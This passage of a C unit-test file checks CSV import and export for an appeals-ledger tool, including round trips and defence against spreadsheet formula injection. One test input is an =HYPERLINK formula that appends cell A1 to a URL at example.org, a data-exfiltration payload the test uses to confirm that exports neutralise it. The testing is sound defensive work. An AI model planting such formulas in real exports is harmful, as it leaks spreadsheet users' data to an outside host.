    assert_true(asprintf(&text, "编号,支部,诉求内容\n,H01,没有编号\n%s,H01,编号零\n%s,H01,编号一\n", c0,
                         c1) > 0);
    write_text(csv, text);
    free(text);
    json_t *rep = import_ok(db, csv);
    json_decref(rep);
    json_t *o = by_text(db, "编号零");
    assert_string_equal(jstr(o, "code"), c0);
    json_decref(o);
    o = by_text(db, "没有编号");
    assert_string_not_equal(jstr(o, "code"), c0);
    assert_string_not_equal(jstr(o, "code"), c1);
    json_decref(o);
    /* And the device goes on minting fresh codes afterwards. */
    CtlRun r = CTL(db, "appeal", "add", "--hall", "H01", "--category", "其他", "--text", "之后");
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    assert_int_equal(count_appeals(db), 4);
    free(db);
    free(csv);
}

static void test_hall_refuses_import(void **state)
{
    char *db = tu_path(*state, "hall.db"), *csv = tu_path(*state, "l.csv");
    CtlRun r = CTL(db, "init", "--role", "hall", "--hall", "H01");
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    write_text(csv, BAD_HEADER GOOD_ROW1);
    TuSnap s = tu_snap_take(db);
    r = CTL(db, "import", "ledger", csv);
    EXPECT(r, 1, "office");
    tu_ctl_free(&r);
    assert_true(tu_snap_same(&s));
    tu_snap_free(&s);
    assert_int_equal(count_appeals(db), 0);
    free(db);
    free(csv);
}

/* ---- round trips ---- */

static char *slurp(const char *path)
{
    size_t n;
    char *t = (char *)tu_read_file(path, &n);
    assert_non_null(t);
    t = realloc(t, n + 1);
    t[n] = '\0';
    return t;
}

/* Compares two exports row by row, printing the first difference. */
static void same_export(const char *a, const char *b)
{
    char *x = slurp(a), *y = slurp(b);
    assert_int_equal(memcmp(x, BOM, 3), 0);
    if (strcmp(x, y) != 0) {
        char *px = x, *py = y;
        int line = 1;
        for (;;) {
            char *ex = strchr(px, '\n'), *ey = strchr(py, '\n');
            size_t lx = ex ? (size_t)(ex - px) : strlen(px), ly = ey ? (size_t)(ey - py) : strlen(py);
            if (lx != ly || memcmp(px, py, lx) != 0) {
                print_error("exports differ at line %d:\n  %.*s\n  %.*s\n", line, (int)lx, px,
                            (int)ly, py);
                break;
            }
            if (!ex || !ey)
                break;
            px = ex + 1;
            py = ey + 1;
            line++;
        }
        fail();
    }
    free(x);
    free(y);
}

/* demo -> export -> import into an office with the same branches -> export:
 * identical files (people and units are added by the import; names,
 * codes, dates, grades, deadlines, notes and answers all survive). */
static void test_round_trip_demo(void **state)
{
    char *db = tu_copy_db(g_demo, *state, "demo.db"), *a = tu_path(*state, "a.csv"),
         *b = tu_path(*state, "b.csv");
    CtlRun r = CTL(db, "export", "ledger", a);
    EXPECT(r, 0, NULL);
    assert_non_null(strstr(r.out, "183"));
    tu_ctl_free(&r);
    char *db2 = office_like(*state, "second.db", db);
    json_t *rep = import_ok(db2, a);
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), 183);
    json_decref(rep);
    r = CTL(db2, "export", "ledger", b);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    same_export(a, b);
    /* The same figures, as far as a ledger carries them. */
    const char *keys[] = {"appeals", "solved", "overdue"};
    CtlRun s1 = CTL(db, "stats", "--json"), s2 = CTL(db2, "stats", "--json");
    json_t *j1 = parse_json(s1.out), *j2 = parse_json(s2.out);
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++)
        assert_int_equal(json_integer_value(json_object_get(j1, keys[i])),
                         json_integer_value(json_object_get(j2, keys[i])));
    assert_true(json_equal(json_object_get(j1, "by_grade"), json_object_get(j2, "by_grade")));
    assert_true(json_equal(json_object_get(j1, "by_status"), json_object_get(j2, "by_status")));
    json_decref(j1);
    json_decref(j2);
    tu_ctl_free(&s1);
    tu_ctl_free(&s2);
    /* Importing the same export again is refused: the codes exist. */
    TuSnap sn = tu_snap_take(db2);
    r = CTL(db2, "import", "ledger", a);
    EXPECT(r, 2, "编号");
    tu_ctl_free(&r);
    assert_true(tu_snap_same(&sn));
    tu_snap_free(&sn);
    free(db);
    free(db2);
    free(a);
    free(b);
}

static void step(const char *db, const char *day, const char *const *w)
{
    tu_pin_day(day);
    const char *a[12] = {0};
    for (int i = 0; i < 11 && w[i]; i++)
        a[i] = w[i];
    CtlRun r = tu_ctl(db, a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7], a[8], a[9], a[10], NULL);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
}

/* Appeals in every state the command line can reach (graded later than
 * taken, escalated without an assignment, solved from escalation, reopened
 * without a progress note...) survive export -> import -> export. */
static void test_round_trip_states(void **state)
{
    char *db = office_like(*state, "office.db", g_demo), *a = tu_path(*state, "a.csv"),
         *b = tu_path(*state, "b.csv");
    const char *const who[][3] = {{"李党员", "member", "H01"}, {"王领导", "leader", NULL}};
    char ids[2][ROSTER_ID_MAX];
    add_people(db, who, 2, ids);
    sqlite3 *h;
    Author self;
    EwErr e = {0};
    char uid[ROSTER_ID_MAX];
    assert_int_equal(db_open(db, 0, &h, &e), EW_OK);
    assert_int_equal(db_begin(h, &e), EW_OK);
    assert_int_equal(device_load_self(h, &self, &e), EW_OK);
    assert_int_equal(roster_add_unit(h, &self, NULL, "镇水利站", 0, uid, &e), EW_OK);
    assert_int_equal(db_commit(h, &e), EW_OK);
    db_close(h);

    static const char *const texts[] = {"未定级", "晚定级", "直接上报", "上报后办结", "办结后重开",
                                        "分派后办结", "进度中", "上报中有进度"};
    char codes[8][CODE_MAX];
    for (int i = 0; i < 8; i++) {
        tu_pin_day("2026-07-01");
        CtlRun r = CTL(db, "appeal", "add", "--hall", i % 2 ? "H02" : "H01", "--category", "水利",
                       "--text", texts[i]);
        EXPECT(r, 0, NULL);
        assert_int_equal(sscanf(r.out, "%23s", codes[i]), 1);
        tu_ctl_free(&r);
    }
    const char *const *plan[] = {
        (const char *const[]){"appeal", "grade", codes[1], "blue", NULL},
        (const char *const[]){"appeal", "grade", codes[2], "orange", NULL},
        (const char *const[]){"appeal", "escalate", codes[2], NULL},
        (const char *const[]){"appeal", "grade", codes[3], "orange", NULL},
        (const char *const[]){"appeal", "escalate", codes[3], "--note", "报县里", NULL},
        (const char *const[]){"appeal", "grade", codes[4], "green", NULL},
        (const char *const[]){"appeal", "assign", codes[4], "--member", ids[0], "--leader", ids[1],
                              "--unit", uid, NULL},
        (const char *const[]){"appeal", "grade", codes[5], "blue", NULL},
        (const char *const[]){"appeal", "assign", codes[5], "--member", "李党员", "--leader",
                              "王领导", "--unit", "镇水利站", "--due", "2026-07-20", NULL},
        (const char *const[]){"appeal", "grade", codes[6], "green", NULL},
        (const char *const[]){"appeal", "assign", codes[6], "--member", ids[0], "--leader", ids[1],
                              "--unit", uid, NULL},
        (const char *const[]){"appeal", "progress", codes[6], "--note", "第一次", NULL},
        (const char *const[]){"appeal", "grade", codes[7], "orange", NULL},
        (const char *const[]){"appeal", "escalate", codes[7], NULL},
        (const char *const[]){"appeal", "progress", codes[7], "--note", "联席会已受理", NULL},
    };
    for (size_t i = 0; i < sizeof plan / sizeof plan[0]; i++)
        step(db, "2026-07-03", plan[i]);
    const char *const *later[] = {
        (const char *const[]){"appeal", "solve", codes[3], "--answer", "县里已解决", NULL},
        (const char *const[]){"appeal", "solve", codes[4], "--answer", "已修好", NULL},
        (const char *const[]){"appeal", "solve", codes[5], "--answer", "已疏通", NULL},
        (const char *const[]){"appeal", "progress", codes[6], "--note", "第二次", NULL},
        (const char *const[]){"appeal", "publish", codes[5], NULL},
    };
    for (size_t i = 0; i < sizeof later / sizeof later[0]; i++)
        step(db, "2026-07-10", later[i]);
    step(db, "2026-07-12", (const char *const[]){"appeal", "reopen", codes[4], "--note",
                                                 "群众说又坏了", NULL});
    tu_pin_day(TODAY);

    CtlRun r = CTL(db, "export", "ledger", a);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    char *db2 = office_like(*state, "second.db", g_demo);
    json_t *rep = import_ok(db2, a);
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), 8);
    json_decref(rep);
    r = CTL(db2, "export", "ledger", b);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    same_export(a, b);
    /* Field by field, as `appeal show` gives them. */
    static const char *const keys[] = {"code", "hall", "category", "text", "grade", "status",
                                       "member", "leader", "unit", "created", "due",
                                       "overdue_days", "answer"};
    for (int i = 0; i < 8; i++) {
        json_t *x = by_text(db, texts[i]), *y = by_text(db2, texts[i]);
        for (size_t k = 0; k < sizeof keys / sizeof keys[0]; k++)
            if (!json_equal(json_object_get(x, keys[k]), json_object_get(y, keys[k]))) {
                char *dx = json_dumps(json_object_get(x, keys[k]), JSON_ENCODE_ANY),
                     *dy = json_dumps(json_object_get(y, keys[k]), JSON_ENCODE_ANY);
                print_error("%s: %s was %s, after the round trip %s\n", texts[i], keys[k], dx, dy);
                free(dx);
                free(dy);
                fail();
            }
        json_decref(x);
        json_decref(y);
    }
    free(db);
    free(db2);
    free(a);
    free(b);
}

/* Where each field of a CSV file starts, as written (quoted or not): the
 * first character of its text, or 0 for an empty field. Calls fn for each. */
static void raw_field_starts(const char *s, void (*fn)(char first, const char *at))
{
    int start = 1, quoted = 0;
    for (const char *p = s; *p; p++) {
        if (start) {
            start = 0;
            if (*p == '"') {
                quoted = 1;
                fn(p[1] == '"' && p[2] != '"' ? 0 : p[1], p);
                continue;
            }
            fn(*p == ',' || *p == '\r' || *p == '\n' ? 0 : *p, p);
        }
        if (quoted) {
            if (*p == '"' && p[1] == '"')
                p++;
            else if (*p == '"')
                quoted = 0;
            continue;
        }
        if (*p == ',')
            start = 1;
        else if (*p == '\n')
            start = 1;
    }
}

static int g_formula_starts;

static void no_formula_start(char first, const char *at)
{
    if (first && strchr("=+-@\t\r", first)) {
        print_error("a field a spreadsheet would run: %.40s\n", at);
        g_formula_starts++;
    }
}

/* Texts, notes, answers and names that Excel would run as formulas are
 * written with an apostrophe (no field of the file starts with = + - @ or
 * a tab), and import takes exactly that apostrophe off: export -> import ->
 * export gives the same file and the same texts. */
static void test_round_trip_formulas(void **state)
{
    char *db = office_like(*state, "office.db", g_demo), *a = tu_path(*state, "a.csv"),
         *b = tu_path(*state, "b.csv");
    const char *const who[][3] = {{"=王五", "member", "H01"}, {"-李领导", "leader", NULL}};
    char ids[2][ROSTER_ID_MAX];
    add_people(db, who, 2, ids);
    sqlite3 *h;
    Author self;
    EwErr e = {0};
    char uid[ROSTER_ID_MAX];
    assert_int_equal(db_open(db, 0, &h, &e), EW_OK);
    assert_int_equal(db_begin(h, &e), EW_OK);
    assert_int_equal(device_load_self(h, &self, &e), EW_OK);
    assert_int_equal(roster_add_unit(h, &self, NULL, "@供电所", 0, uid, &e), EW_OK);
    assert_int_equal(db_commit(h, &e), EW_OK);
    db_close(h);

    static const char *const texts[] = {
        "=HYPERLINK(\"http://example.org/?\"&A1,\"点我\")", "+86 138 打不通", "-5度也没有暖气",
        "@所有人 路灯坏了", "'=本来就带撇号", "''-两个撇号", "\t=前面是制表符", "'不是公式的撇号"};
    enum { N = sizeof texts / sizeof texts[0] };
    char codes[N][CODE_MAX];
    tu_pin_day("2026-07-01");
    for (int i = 0; i < N; i++) {
        CtlRun r = CTL(db, "appeal", "add", "--hall", "H01", "--category", "其他", "--text",
                       texts[i]);
        EXPECT(r, 0, NULL);
        assert_int_equal(sscanf(r.out, "%23s", codes[i]), 1);
        tu_ctl_free(&r);
    }
    step(db, "2026-07-02", (const char *const[]){"appeal", "grade", codes[0], "blue", NULL});
    step(db, "2026-07-02", (const char *const[]){"appeal", "assign", codes[0], "--member", ids[0],
                                                 "--leader", ids[1], "--unit", uid, NULL});
    step(db, "2026-07-03", (const char *const[]){"appeal", "progress", codes[0], "--note",
                                                 "+已联系供电所", NULL});
    step(db, "2026-07-04", (const char *const[]){"appeal", "grade", codes[1], "green", NULL});
    step(db, "2026-07-04", (const char *const[]){"appeal", "assign", codes[1], "--member", ids[0],
                                                 "--leader", ids[1], "--unit", uid, NULL});
    step(db, "2026-07-05", (const char *const[]){"appeal", "solve", codes[1], "--answer",
                                                 "-已换新线路", NULL});
    tu_pin_day(TODAY);

    CtlRun r = CTL(db, "export", "ledger", a);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    char *raw = slurp(a);
    g_formula_starts = 0;
    raw_field_starts(raw + 3, no_formula_start);
    assert_int_equal(g_formula_starts, 0);
    const char *guarded[] = {"'=HYPERLINK(", "'+86 138", "'-5度", "'@所有人", "''=本来就带撇号",
                             "'''-两个撇号", "'\t=前面是制表符", ",'不是公式的撇号,", "'=王五",
                             "'-李领导", "'@供电所", "'+已联系供电所", "'-已换新线路"};
    for (size_t i = 0; i < sizeof guarded / sizeof guarded[0]; i++)
        if (!strstr(raw, guarded[i])) {
            print_error("the export lacks %s\n", guarded[i]);
            fail();
        }
    free(raw);

    char *db2 = office_like(*state, "second.db", g_demo);
    json_t *rep = import_ok(db2, a);
    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), N);
    json_decref(rep);
    r = CTL(db2, "export", "ledger", b);
    EXPECT(r, 0, NULL);
    tu_ctl_free(&r);
    same_export(a, b);
    static const char *const keys[] = {"text", "member", "leader", "unit", "answer", "status"};
    for (int i = 0; i < N; i++) {
        json_t *x = by_text(db, texts[i]), *y = by_text(db2, texts[i]);
        for (size_t k = 0; k < sizeof keys / sizeof keys[0]; k++)
            assert_true(json_equal(json_object_get(x, keys[k]), json_object_get(y, keys[k])));
        json_decref(x);
        json_decref(y);
    }
    json_t *y = by_text(db2, texts[0]);
    assert_string_equal(jstr(y, "member"), "=王五");
    assert_string_equal(jstr(y, "leader"), "-李领导");
    assert_string_equal(jstr(y, "unit"), "@供电所");
    json_decref(y);
    free(db);
    free(db2);
    free(a);
    free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_import_utf8, setup, teardown),
        cmocka_unit_test_setup_teardown(test_import_gb18030_and_mixed, setup, teardown),
        cmocka_unit_test_setup_teardown(test_namesakes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bad_rows, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bad_bytes_and_quotes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bad_files, setup, teardown),
        cmocka_unit_test_setup_teardown(test_blank_rows, setup, teardown),
        cmocka_unit_test_setup_teardown(test_minted_code_avoids_file_codes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_hall_refuses_import, setup, teardown),
        cmocka_unit_test_setup_teardown(test_round_trip_demo, setup, teardown),
        cmocka_unit_test_setup_teardown(test_round_trip_states, setup, teardown),
        cmocka_unit_test_setup_teardown(test_round_trip_formulas, setup, teardown),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
